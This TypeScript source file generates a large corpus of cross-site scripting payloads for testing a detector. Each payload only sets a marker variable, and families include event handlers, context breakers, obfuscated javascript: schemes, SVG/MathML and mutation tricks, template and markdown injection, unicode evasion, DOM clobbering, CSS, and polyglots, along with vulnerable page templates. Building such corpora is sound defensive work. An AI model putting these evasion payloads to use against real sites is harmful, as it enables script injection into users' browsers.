/**
 * What somebody could write to run a script in another person's browser: our own corpus, made of families rather than
 * collected. Each payload does the same, `__owned=<its number>`, so that a detector can tell which one ran.
 */

export interface Payload {
  /** Its number, that is what `__owned` becomes. */
  id: number;
  family: string;
  text: string;
}

/** An event that fires without anybody's doing or by a mouse, and a tag on which it does. */
const HANDLERS: [tag: string, event: string, more: string][] = [
  ["img", "onerror", "src=x"], ["img", "onload", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw="], ["svg", "onload", ""], ["body", "onload", ""], ["body", "onpageshow", ""],
  ["iframe", "onload", ""], ["iframe", "onload", "src=about:blank"], ["video", "onerror", "src=x"], ["audio", "onerror", "src=x"], ["video", "onloadstart", "src=x"],
  ["input", "onfocus", "autofocus"], ["textarea", "onfocus", "autofocus"], ["select", "onfocus", "autofocus"], ["button", "onfocus", "autofocus"], ["details", "ontoggle", "open"],
  ["marquee", "onstart", ""], ["object", "onerror", "data=x"], ["embed", "onload", "src=data:,"], ["link", "onerror", "rel=stylesheet href=x:"], ["script", "onerror", "src=x:"],
  ["style", "onload", ""], ["input", "onerror", "type=image src=x"], ["image", "onerror", "src=x"], ["picture><source", "onerror", "srcset=x"], ["video><source", "onerror", "src=x"],
  ["a", "onclick", "href=#"], ["b", "onmouseover", ""], ["p", "onpointerenter", ""], ["i", "onmouseenter", ""], ["div", "onfocus", "tabindex=0 autofocus"],
  ["b", "oncopy", ""], ["p", "onwheel", ""], ["p", "onauxclick", ""], ["form", "onsubmit", ""], ["b", "oncontextmenu", ""], ["x", "onclick", ""], ["div", "onbeforetoggle", "popover"],
  ["dialog", "onclose", "open"], ["p", "ontouchstart", ""], ["b", "ondragover", "draggable=true"],
];

/** Ways to write one and the same element past a filter that looks for another. */
const SPELLINGS: ((tag: string, event: string, more: string, js: string) => string)[] = [
  (tag, event, more, js) => `<${tag} ${more} ${event}="${js}">`,
  (tag, event, more, js) => `<${tag} ${more} ${event}=${js}>`,
  (tag, event, more, js) => `<${tag.toUpperCase()}/${more.replaceAll(" ", "/")}/${event.toUpperCase()}=${js}>`,
  (tag, event, more, js) => `<${tag}\t${more}\n${event}\t=\n'${js}'>`,
  (tag, event, more, js) => `<${tag} ${more} ${event}=${entities(js)}>`,
];

/** What the surrounding text could be, and how one gets out of it. */
const BREAKERS: [name: string, out: string][] = [
  ["double quoted attribute", `">`], ["single quoted attribute", `'>`], ["both quotes", `'">`], ["title", `</title>`], ["textarea", `</textarea>`], ["style", `</style>`], ["script", `</script>`],
  ["comment", `-->`], ["odd comment", `--!>`], ["noscript", `</noscript>`], ["select", `</select>`], ["template", `</template>`], ["cdata", `]]>`], ["xmp", `</xmp>`], ["iframe", `</iframe>`],
  ["everything", `'"--></title></textarea></style></script>`],
];

const SCHEMES = [
  "javascript:", "JaVaScRiPt:", "javascript&colon;", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:", "javascript:%0a", "javascript://%0a", "&#106;avascript:",
  "&#x6a;avascript:", "javascript&#58;", "vbscript:", "view-source:javascript:", "blob:javascript:", "feed:javascript:",
];

/** Numeric entities of every character. */
function entities(text: string): string {
  return [...text].map((letter) => `&#${letter.codePointAt(0)};`).join("");
}

function base64(text: string): string {
  return Buffer.from(text).toString("base64");
}

/** In letters of a string literal. */
function escaped(text: string): string {
  return [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
}

type Make = (js: string) => string;

function* families(): Generator<[family: string, make: Make]> {
  for (const [at, [tag, event, more]] of HANDLERS.entries()) {
    // Each tag in two spellings; together they go through all.
    for (const spell of [SPELLINGS[at % SPELLINGS.length]!, SPELLINGS[(at + 2) % SPELLINGS.length]!]) yield ["handler", (js) => spell(tag, event, more, js)];
  }
  for (const [, out] of BREAKERS) {
    yield ["breaker", (js) => `${out}<img src=x onerror=${js}>`];
    yield ["breaker", (js) => `${out}<script>${js}</script>`];
  }
  for (const quote of [`"`, `'`, "`"]) {
    yield ["attribute", (js) => `${quote} onfocus=${js} autofocus tabindex=1 x=${quote}`];
    yield ["attribute", (js) => `x${quote}onmouseover=${quote}${js}`];
    yield ["string", (js) => `${quote};${js};//`];
    yield ["string", (js) => `${quote}-(${js})-${quote}`];
    yield ["string", (js) => `\\${quote};${js}//`];
    yield ["string", (js) => `${quote}+eval(${quote}${escaped(js)}${quote})+${quote}`];
  }
  for (const scheme of SCHEMES) {
    yield ["scheme", (js) => scheme + js];
    yield ["scheme in a link", (js) => `<a href="${scheme}${js}">a</a>`];
  }
  for (const [tag, attribute] of [["iframe", "src"], ["form><button", "formaction"], ["form", "action"], ["object", "data"], ["embed", "src"], ["area", "href"], ["base", "href"], ["svg><a", "xlink:href"], ["math><mtext", "href"], ["meta http-equiv=refresh", "content"]] as const) {
    yield ["scheme", (js) => `<${tag} ${attribute}="${attribute === "content" ? "0;url=" : ""}javascript:${js}">x`];
  }

  // Documents in an address or an attribute.
  for (const tag of ["iframe src", "object data", "embed src", "a href", "frame src"]) {
    yield ["data URI", (js) => `<${tag}="data:text/html,<script>parent.${js}</script>">x`];
    yield ["data URI", (js) => `<${tag}="data:text/html;base64,${base64(`<script>top.${js}</script>`)}">x`];
    yield ["data URI", (js) => `<${tag}="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>">x`];
  }
  yield ["data URI", (js) => `data:text/html,<script>${js}</script>`];
  yield ["data URI", (js) => `data:text/html;base64,${base64(`<script>${js}</script>`)}`];
  yield ["data URI", (js) => `<script src="data:,${js}"></script>`];
  yield ["data URI", (js) => `<script type=module>import "data:text/javascript,${js}"</script>`];
  yield ["data URI", (js) => `<link rel=modulepreload href="data:text/javascript,${js}">`];
  yield ["srcdoc", (js) => `<iframe srcdoc="<script>parent.${js}</script>">`];
  yield ["srcdoc", (js) => `<iframe srcdoc='<img src=x onerror=parent.${js}>'>`];
  yield ["srcdoc", (js) => `<iframe srcdoc="${entities(`<svg onload=parent.${js}>`)}">`];
  yield ["srcdoc", (js) => `"><iframe srcdoc=&lt;script&gt;parent.${js}&lt;/script&gt;>`];
  yield ["srcdoc", (js) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>top.${js}</script>">`];
  yield ["srcdoc", (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`];

  // Drawings and formulas.
  for (const inside of [
    "<script>JS</script>", "<script href='data:,JS'/>", "<animate onbegin=JS attributeName=x dur=1s>", "<set onbegin=JS attributeName=x>", "<a href='javascript:JS'><text y=9>a</text></a>",
    "<a><animate attributeName=href values='javascript:JS'/><text y=9>a</text></a>", "<foreignObject><img src=x onerror=JS></foreignObject>", "<image href=x onerror=JS>",
    "<use href='data:image/svg+xml,<svg id=x onload=JS>#x'/>", "<style><img src=x onerror=JS></style>", "<title><img src=x onerror=JS></title>", "<desc><svg onload=JS></desc>",
    "<discard onbegin=JS>", "<animateTransform onbegin=JS attributeName=transform>", "<handler type='text/javascript'>JS</handler>",
  ]) yield ["SVG", (js) => `<svg>${inside.replaceAll("JS", js)}</svg>`];
  for (const inside of [
    "<mtext><img src=x onerror=JS></mtext>", "<annotation-xml encoding='text/html'><img src=x onerror=JS></annotation-xml>", "<maction actiontype=statusline xlink:href='javascript:JS'>x</maction>",
    "<mi><script>JS</script></mi>", "<mglyph><svg><mtext><style><img src=x onerror=JS>", "<mtext><svg onload=JS></mtext>", "<mtext href='javascript:JS'>x</mtext>",
  ]) yield ["MathML", (js) => `<math>${inside.replaceAll("JS", js)}</math>`];

  // Harmless to whoever looks once; something else after it was written and read again.
  for (const text of [
    "<math><mtext><table><mglyph><style><img src=x onerror=JS>", "<svg></p><style><a id=\"</style><img src=x onerror=JS>\">", "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=JS>\">",
    "<svg><style>/*</style><img src=x onerror=JS>*/", "<table><tr><td><svg><desc><table><img src=x onerror=JS>", "<select><template><style><img src=x onerror=JS>", "<xmp><p title=\"</xmp><svg onload=JS>\">",
    "<svg><![CDATA[><img src=x onerror=JS>]]></svg>", "<!--><img src=x onerror=JS>-->", "<!---><img src=x onerror=JS>-->", "<?xml ><img src=x onerror=JS>?>", "<![if gt IE 9]><img src=x onerror=JS><![endif]>",
    "<plaintext/onmouseover=JS>x", "<textarea><img title=\"</textarea><img src=x onerror=JS>\">", "<listing>&lt;img src=x onerror=JS&gt;</listing>", "<p><svg><p><style><!--</style><img src=x onerror=JS>--></svg>",
    "<a href=\"x`\" title=`onmouseover=JS>", "<<img src=x onerror=JS>>", "<scr<script>ipt>JS</scr</script>ipt>", "<img src=x onerror=JS", "<img src=x onerror=JS//", "<svg/onload=JS<", "</p/><img/src=x/onerror=JS>",
  ]) yield ["mutation", (js) => text.replaceAll("JS", js)];

  // For whoever puts text into a template, a formula, a log or a markdown.
  for (const text of [
    "{{constructor.constructor('JS')()}}", "{{$on.constructor('JS')()}}", "{JS}", "${JS}", "`${JS}`", "#{JS}", "<%= JS %>", "{{{JS}}}", "[[JS]]", "*{JS}", "@{JS}", "{@html '<img src=x onerror=JS>'}",
    "{#if JS}{/if}", "<div v-html=\"'<img src=x onerror=JS>'\">", "<div x-data x-init=JS>", "<div ng-app ng-csp><p ng-focus=JS tabindex=0>", "<div hx-on:load=JS>", "{% raw %}<img src=x onerror=JS>{% endraw %}",
    "=HYPERLINK(\"javascript:JS\")", "@SUM(JS)", "\"],JS,[\"", "</script><script>JS//", "\u2028JS\u2029", "]]>]]&gt;<script>JS</script>", "\r\nContent-Type: text/html\r\n\r\n<script>JS</script>",
  ]) yield ["template", (js) => text.replaceAll("JS", js)];
  for (const text of [
    "[a](javascript:JS)", "[a](  javascript:JS \"t\")", "![a](x\"onerror=JS \"t)", "<javascript:JS>", "[a]: javascript:JS\n[a]", "[a](data:text/html,<script>JS</script>)", "**<img src=x onerror=JS>**",
    "```html\n<img src=x onerror=JS>\n```", "`<img src=x onerror=JS>`", "# <svg onload=JS>", "> <img src=x onerror=JS>", "[<img src=x onerror=JS>](https://x.example)", "https://x.example/\"onmouseover=JS//",
    "https://x.example/<img src=x onerror=JS>", "https://javascript:JS@x.example", "mailto:a@x.example?subject=<svg onload=JS>", "[a](https://x.example\"onclick=JS\")", "www.x.example/'onclick='JS",
    "https://x.example\u0000javascript:JS", "//x.example/;JS", "tel:+49\"onclick=\"JS",
  ]) yield ["markdown", (js) => text.replaceAll("JS", js)];

  // Letters that turn round, hide, or become others.
  for (const text of [
    "\u202e<img src=x onerror=JS>\u202c", "\u2066<svg onload=JS>\u2069", "\u200b<img src=x onerror=JS>", "\ufeff<script>JS</script>", "\uff1cscript\uff1eJS\uff1c/script\uff1e", "\u02c2img src=x onerror=JS\u02c3",
    "\u00bcimg src=x onerror=JS\u00be", "<\u017fcript>JS</\u017fcript>", "<img\u00a0src=x onerror=JS>", "<img\u3000src=x onerror=JS>", "<i\u0307mg src=x onerror=JS>", "%3Cimg src=x onerror=JS%3E", "%253Csvg onload=JS%253E",
    "&lt;img src=x onerror=JS&gt;", "&amp;lt;svg onload=JS&amp;gt;", "\\u003cimg src=x onerror=JS\\u003e", "\\x3csvg onload=JS\\x3e", "+ADw-script+AD4-JS+ADw-/script+AD4-", "\ud83d\ude00<img src=x onerror=JS>\ud83d\udc68\u200d\ud83d\udc69",
    "<img src=x onerror=\u2028JS>", "<img src=x o\u00adnerror=JS>", "\u001b[31m<img src=x onerror=JS>\u001b[0m", "\u061c<svg onload=JS>", "<\u202escript>JS",
  ]) yield ["letters", (js) => text.replaceAll("JS", js)];

  // Names that shadow the page's own.
  for (const text of [
    "<form id=document><input name=body>JS</form>", "<a id=location href='javascript:JS'>", "<form name=fetch><input id=then>JS", "<img name=getElementById src=x onerror=JS>", "<a id=defaultView><a id=defaultView name=eval href='javascript:JS'>",
    "<iframe name=top srcdoc='<script>parent.JS</script>'>", "<input id=attributes form=x autofocus onfocus=JS>", "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=JS>\"}}", "__proto__[onload]=JS", "constructor.prototype.src=javascript:JS",
    "<form id=x tabindex=1 onfocus=JS><input name=nodeName></form>", "<base href='javascript:JS//'>",
  ]) yield ["clobbering", (js) => text.replaceAll("JS", js)];
  for (const text of [
    "<style>@import 'javascript:JS';</style>", "<div style=\"background:url(javascript:JS)\">", "<style>*{animation:x}@keyframes x{}</style><b style=animation-name:x onanimationstart=JS>", "<b style='animation:x 1s' onanimationstart=JS><style>@keyframes x{}</style>",
    "<b style='transition:color 1s' ontransitionend=JS tabindex=0>", "</style><style>*{x:expression(JS)}", "red;} </style><img src=x onerror=JS>", "#fff;background:url('javascript:JS')", "<style>li{list-style-image:url(\"javascript:JS\")}</style><li>",
    "<link rel=stylesheet href=\"data:text/css,*{x:expression(JS)}\">", "<b style=\"-moz-binding:url(data:text/xml,JS)\">", "<div style=content-visibility:auto oncontentvisibilityautostatechange=JS>",
  ]) yield ["CSS", (js) => text.replaceAll("JS", js)];

  for (const text of [
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+JS//'>", "'\"><svg onload=JS>{{JS}}${JS}", "\"'><img src=x onerror=JS><!--/*`*/JS//", "';JS//\";JS//--></script>\"'><svg onload=JS>",
    "-->'\"/></sCript><deTailS open x=\">\" ontoggle=JS>", "`;JS;`<img/src/onerror=JS>", "</script>\"-JS-\"<svg/onload=JS>", "x\"x'x<x>x<script>JS</script>",
  ]) yield ["polyglot", (js) => text.replaceAll("JS", js)];
}

/** Long enough for a number of three digits, short enough for every field that is shown. */
export const PAYLOADS: Payload[] = [...families()].map(([family, make], at) => ({ id: at + 100, family, text: make(`__owned=${at + 100}`) }));

/** Where a payload runs if a page is careless: what the detector is tried against. */
export const CARELESS: ((text: string) => string)[] = [
  (text) => `<body>${text}`,
  (text) => `<body><p title="${text}">x</p>`,
  (text) => `<body><p title='${text}'>x</p>`,
  (text) => `<body><p title=${text}>x</p>`,
  (text) => `<body><a href="${text}">x</a>`,
  (text) => `<body><script>var a="${text}"</script>`,
  (text) => `<body><script>var a='${text}'</script>`,
  (text) => "<body><script>var a=`" + text + "`</script>",
  (text) => `<head><title>${text}</title>`,
  (text) => `<body><textarea>${text}</textarea>`,
  (text) => `<style>/*${text}*/</style>`,
  (text) => `<body><!--${text}-->`,
  (text) => `<body><select><option>${text}</select>`,
  (text) => `<body><noscript>${text}</noscript><template>${text}</template><xmp>${text}</xmp>`,
];
